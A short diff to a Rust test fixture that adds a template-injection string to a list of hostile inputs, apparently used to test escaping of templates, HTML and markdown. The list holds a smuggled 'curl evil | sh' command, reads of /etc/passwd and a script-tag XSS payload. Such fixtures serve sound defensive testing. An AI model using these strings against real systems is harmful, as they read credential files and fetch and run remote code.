@@ -42,6 +42,7 @@ const HOSTILE: &[&str] = &[
     "plain",
     "\"; curl evil | sh; \"",
     "${file(\"/etc/passwd\")} %{ for x in y }",
+    "${a} $%{ if true }%${file(\"/etc/passwd\")} $${ %%{",
     "</td><script>alert(1)</script>",
     "| a | b |\n\n# heading\n\n[x](http://evil.example)",
     "`backtick` *bold* _under_ \\n",
